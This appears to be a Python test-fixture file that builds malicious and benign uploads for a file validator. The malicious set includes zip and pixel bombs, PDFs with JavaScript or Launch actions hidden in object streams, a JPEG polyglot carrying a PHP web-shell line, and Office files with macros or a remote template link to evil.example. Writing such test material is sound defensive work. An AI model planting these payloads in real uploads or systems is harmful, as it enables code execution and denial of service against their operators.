"""Files that must be refused, and sound ones beside them, made in memory."""

import io
import struct
import zipfile
import zlib

from PIL import Image

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
CONTENT_TYPES = "<Types><Default Extension='xml' ContentType='application/xml'/></Types>"
MACRO_TYPES = CONTENT_TYPES.replace(
    "application/xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
)
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)


def picture(kind="PNG", size=(8, 8)):
    stream = io.BytesIO()
    Image.new("RGB", size, "white").save(stream, kind)
    return stream.getvalue()


def archive(**members):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return stream.getvalue()


def slides(**more):
    return archive(**{"[Content_Types].xml": CONTENT_TYPES, "ppt/presentation.xml": "<p/>"} | more)


def zip_bomb():
    """1 GB of zeros in 1 MB of slides."""
    return slides(**{"ppt/media/image1.bin": bytes(650 * 1024 * 1024)})


def many_entries():
    return slides(**{f"ppt/slides/{n}.xml": "" for n in range(5_001)})


def lying_directory():
    """A directory of a gigabyte by its own word."""
    sound = bytearray(slides())
    struct.pack_into("<I", sound, sound.rfind(b"PK\x05\x06") + 12, 1 << 30)
    return bytes(sound)


def old_slides(*, macros=False, encrypted=False):
    content = OLE + "PowerPoint Document".encode("utf-16-le") + bytes(200)
    if macros:
        header = bytes.fromhex("1f00ff0314000000020000040c000000")
        content += header + struct.pack("<III", 7, 1, 2)
    if encrypted:
        content += "EncryptedPackage".encode("utf-16-le")
    return content + bytes(512)


def encrypted_slides():
    sound = bytearray(slides())
    at = sound.rfind(b"PK\x01\x02")
    sound[at + 8] |= 1
    return bytes(sound)


def pixel_bomb():
    """A PNG that claims 40,000 × 40,000 pixels."""
    small = bytearray(picture())
    struct.pack_into(">II", small, 16, 40_000, 40_000)
    struct.pack_into(">I", small, 29, zlib.crc32(bytes(small[12:29])))
    return bytes(small)


SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
EXE = b"MZ\x90\x00" + bytes(400)
HEIC = b"\x00\x00\x00\x18ftypheic" + bytes(100)
MACRO_DOCUMENT = archive(
    **{"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": "", "word/vbaProject.bin": "x"}
)


def pdf(extra=b"", *, head=b"%PDF-1.7\n", tail=b""):
    return head + b"1 0 obj<</Type/Catalog>>endobj\n" + extra + PDF[-35:] + tail


def hidden_in_objects(dictionary, text):
    """An object in a packed object stream, where a search of the file does not see it."""
    packed = zlib.compress(text)
    head = b"9 0 obj<</Type/ObjStm/N 1/First 4/Length %d %s>>stream\n" % (len(packed), dictionary)
    return pdf(head + packed + b"\nendstream endobj\n")


SCRIPT = b"2 0 obj<</S /JavaScript /JS (app.alert(1))>>endobj\n"
FLATE = b"/Filter/FlateDecode"
ACTIVE_PDFS = [
    pdf(SCRIPT),
    pdf(SCRIPT.replace(b"/JavaScript", b"/J#61vaScript")),
    pdf(b"2 0 obj<</S/Launch/F(calc.exe)>>endobj\n"),
    pdf(b"2 0 obj<</Names<</EmbeddedFiles 3 0 R>>>>endobj\n"),
    hidden_in_objects(FLATE, b"2 0 <</S/JavaScript/JS(x)>>"),
    hidden_in_objects(b"/Filter [ /FlateDecode ]", b"2 0 " + b" " * 300_000 + b"<</S/Launch>>"),
    hidden_in_objects(b"/Filter[/ASCIIHexDecode/FlateDecode]", b"2 0 <<>>"),
    hidden_in_objects(b"/F#69lter/LZWDecode", b"2 0 <<>>"),
]


def office(part, **more):
    return archive(**{"[Content_Types].xml": CONTENT_TYPES, part: "<x/>"} | more)


WORD, TABLE = office("word/document.xml"), office("xl/workbook.xml")
RELATIONS = (
    "<Relationships><Relationship Id='r1' Type='http://x/{kind}' TargetMode='External' "
    "Target='http://evil.example/t.dotm'/></Relationships>"
)


def relations(kind):
    text = RELATIONS.format(kind=kind)
    return office("word/document.xml", **{"word/_rels/settings.xml.rels": text})


def old_office(stream, head=b"", *, more=b""):
    """A container with one stream of that name, whose bytes begin in a sector of their own."""
    names = f"{stream}\0".encode("utf-16-le").ljust(512, b"\0")
    return OLE + names + head.ljust(1024, b"\0") + more + bytes(512)


def word_head(flags):
    return bytes.fromhex("eca5c100") + bytes(6) + struct.pack("<H", flags)


def book(*records):
    bof = bytes.fromhex("0908100000060500") + bytes(12)
    return bof + b"".join(struct.pack("<HH", kind, len(data)) + data for kind, data in records)


def box(kind, content=b""):
    return struct.pack(">I4s", len(content) + 8, kind) + content


def film(*boxes):
    return box(b"ftyp", b"isom\0\0\2\0isommp42") + b"".join(boxes or FILM)


FILM = (box(b"moov", bytes(100)), box(b"mdat", bytes(500)))
# Every refused file of a kind of format: (formats taken, content, code).
HOSTILE = [
    *[("pdf", content, "pdf_active") for content in ACTIVE_PDFS],
    ("pdf", pdf(b"trailer<</Encrypt 5 0 R>>\n"), "protected"),
    ("pdf", pdf(b"trailer<</#45ncrypt 5 0 R>>\n"), "protected"),
    ("pdf", pdf(tail=archive(a="b")), "two_in_one"),
    ("pdf", pdf(tail=HTML), "two_in_one"),
    ("pdf", pdf(head=b"%PDF-1.7\n<html><script>alert(1)</script>\n"), "two_in_one"),
    ("pdf", pdf(head=b"%PDF-html\n"), "two_in_one"),
    ("jpg", picture("JPEG") + b"<script>alert(1)</script>", "two_in_one"),
    ("jpg", picture("JPEG") + b"<?php system($_GET[0]);", "two_in_one"),
    ("jpg", picture("JPEG") + archive(a="b"), "two_in_one"),
    ("png", picture() + HTML, "two_in_one"),
    ("jpg", picture("JPEG")[:-2], "image_broken"),
    ("png jpg", SVG, "wrong_type"),
    ("pdf", WORD, "wrong_type"),
    ("docx", TABLE, "wrong_type"),
    ("xlsx", WORD, "wrong_type"),
    ("docx", office("word/document.xml", **{"xl/workbook.xml": "x"}), "two_in_one"),
    ("docx", office("word/document.xml", **{"word/vbaProject.bin": "x"}), "macros"),
    ("docx", relations("attachedTemplate"), "linked"),
    ("docx", relations("oleObject"), "linked"),
    ("xlsx", office("xl/workbook.xml", **{"xl/macrosheets/sheet1.xml": "x"}), "macros"),
    ("docx", archive(**{"word/document.xml": "x"}), "archive_broken"),
    ("docx", WORD + HTML, "two_in_one"),
    ("docx", old_office("EncryptedPackage"), "protected"),
    ("doc", old_office("WordDocument", word_head(0x0100)), "protected"),
    ("doc", old_office("WordDocument", more="_VBA_PROJECT".encode("utf-16-le")), "macros"),
    ("xls", old_office("Workbook", book((0x2F, bytes(6)))), "protected"),
    ("xls", old_office("Workbook", book((0x85, b"\0\0\0\0\0\1\1\0A"))), "macros"),
    ("xls", old_office("Workbook", more=book().ljust(512, b"\0") * 60), "archive_broken"),
    ("mp4", film()[:-1], "video_broken"),
    ("mp4", film(FILM[0]), "video_broken"),
    ("mp4", film(*FILM, box(b"free", HTML)), "two_in_one"),
    ("mp4", film(*FILM, box(b"free", archive(a="b"))), "two_in_one"),
    ("mp4", film(*FILM, struct.pack(">I4s", 4, b"free")), "video_broken"),
    ("mp4", HEIC, "wrong_type"),
]
HARMLESS = [
    ("pdf", PDF),
    ("pdf", pdf(b"2 0 obj<</Type/Action/S/URI/URI(http://x)/JavaScripts 1>>endobj\n")),
    ("pdf", hidden_in_objects(FLATE, b"2 0 <</Type/Page>>")),
    ("jpg", picture("JPEG")),
    ("jpg", picture("JPEG") + picture("JPEG")),
    ("png", picture()),
    ("docx", WORD),
    ("docx", relations("hyperlink")),
    ("xlsx", TABLE),
    ("pptx", slides()),
    ("doc", old_office("WordDocument", word_head(0))),
    ("xls", old_office("Workbook", book((0x85, b"\0\0\0\0\0\0\1\0A")))),
    ("ppt", old_slides()),
    ("mp4", film()),
]
# (kind of material, name, content, part of the sentence)
REFUSED = [
    ("plan", "plan.pdf", b"", "is empty"),
    ("plan", "plan.pdf", b"just words", "is not PDF"),
    ("plan", "plan.pdf", b"%PDF-1.7\ncut off", "cut off"),
    ("plan", "plan.pdf", SVG, "an SVG drawing"),
    ("plan", "plan.pdf", b"\xef\xbb\xbf \n" + HTML, "a web page"),
    ("plan", "plan.pdf", EXE, "a program"),
    ("plan", "plan.pdf", b" " + PDF, "PDF"),
    ("licence", "licence.svg", SVG, "an SVG drawing"),
    ("licence", "licence.jpg", HEIC, "a HEIC photo"),
    ("licence", "licence.png", picture("GIF"), "GIF"),
    ("licence", "licence.png", picture()[:40], "cannot be opened"),
    ("licence", "licence.png", pixel_bomb(), "60 million pixels"),
    ("deck", "deck.pptx", MACRO_DOCUMENT, "macros"),
    ("deck", "deck.pptx", slides(**{"ppt/vbaProject.bin": "x"}), "macros"),
    ("deck", "deck.pptx", slides(**{"[Content_Types].xml": MACRO_TYPES}), "macros"),
    ("deck", "deck.pptx", slides(**{"ppt/activeX/activeX1.bin": "x"}), "macros"),
    ("deck", "deck.pptx", lying_directory(), "far too big"),
    ("deck", "deck.pptx", slides()[:-30], "damaged"),
    ("deck", "deck.pptx", encrypted_slides(), "password"),
    ("deck", "deck.pptx", archive(a="b"), "PPTX"),
    ("deck", "deck.ppt", old_slides(macros=True), "macros"),
    ("deck", "deck.ppt", old_slides(encrypted=True), "password"),
    ("deck", "deck.ppt", OLE, "PPTX"),
    ("deck", "deck.exe", EXE, "a program"),
]
TAKEN = [
    ("plan", "计划书.pdf", PDF, "application/pdf"),
    ("licence", "执照.JPG", picture("JPEG"), "image/jpeg"),
    ("licence", "执照.png", picture(), "image/png"),
    ("declaration", "声明.pdf", PDF, "application/pdf"),
    (
        "deck",
        "路演.pptx",
        slides(),
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    ("deck", "路演.ppt", old_slides(), "application/vnd.ms-powerpoint"),
]
